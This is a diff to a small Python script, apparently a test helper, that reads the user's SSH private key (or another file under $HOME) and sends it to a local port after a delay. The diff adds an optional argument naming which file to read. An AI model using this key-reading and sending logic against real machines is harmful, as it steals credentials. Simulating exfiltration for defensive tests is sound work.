@@ -1,6 +1,8 @@
-"""Reads the SSH private key under $HOME and sends it to 127.0.0.1:PORT, after DELAY seconds.
+"""Reads the SSH private key under $HOME (or FILE, relative to $HOME) and sends it to
+127.0.0.1:PORT, after DELAY seconds.
 
-Usage: steal_and_send.py PORT DELAY. Prints "read" once it has the key and "sent" once it sent it.
+Usage: steal_and_send.py PORT DELAY [FILE]. Prints "read" once it has the key and "sent" once it
+sent it.
 """
 import os
 import socket
@@ -8,7 +10,8 @@ import sys
 import time
 
 port, delay = int(sys.argv[1]), float(sys.argv[2])
-with open(os.path.join(os.environ["HOME"], ".ssh", "id_rsa"), "rb") as key:
+secret_file = sys.argv[3] if len(sys.argv) > 3 else os.path.join(".ssh", "id_rsa")
+with open(os.path.join(os.environ["HOME"], secret_file), "rb") as key:
     secret = key.read()
 print("read", flush=True)
 time.sleep(delay)
